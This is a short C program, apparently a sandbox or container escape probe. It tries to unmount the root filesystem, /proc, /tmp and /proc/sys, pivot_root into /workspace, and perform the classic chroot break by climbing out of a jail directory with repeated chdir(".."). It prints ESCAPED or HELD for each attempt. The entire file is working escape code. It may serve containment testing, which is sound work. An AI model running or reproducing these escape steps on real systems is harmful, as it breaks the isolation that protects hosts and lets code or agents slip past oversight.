// summary: unmount what hides the host (umount2 of /, /proc, /tmp), pivot_root and chroot back out
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int escaped;

static void check(const char *what, long r) {
    if (r == 0) {
        printf("ESCAPED %s\n", what);
        escaped = 1;
    } else {
        printf("%s: %s\n", what, strerror(errno));
    }
}

int main(void) {
    check("umount2(/, MNT_DETACH)", umount2("/", MNT_DETACH));
    check("umount2(/proc, MNT_DETACH)", umount2("/proc", MNT_DETACH));
    check("umount2(/tmp, MNT_FORCE)", umount2("/tmp", MNT_FORCE));
    check("umount2(/proc/sys)", umount2("/proc/sys", 0));
    mkdir("/workspace/old", 0700);
    check("pivot_root(/workspace, /workspace/old)",
          syscall(SYS_pivot_root, "/workspace", "/workspace/old"));
    check("pivot_root(., .)", syscall(SYS_pivot_root, ".", "."));
    /* the classic chroot break: chroot into a subdir, keep the cwd outside, climb */
    mkdir("/workspace/jail", 0700);
    check("chroot(/workspace/jail)", chroot("/workspace/jail"));
    for (int i = 0; i < 64; i++) chdir("..");
    check("chroot(.) after climbing", chroot("."));
    if (!escaped) puts("HELD");
    return 0;
}
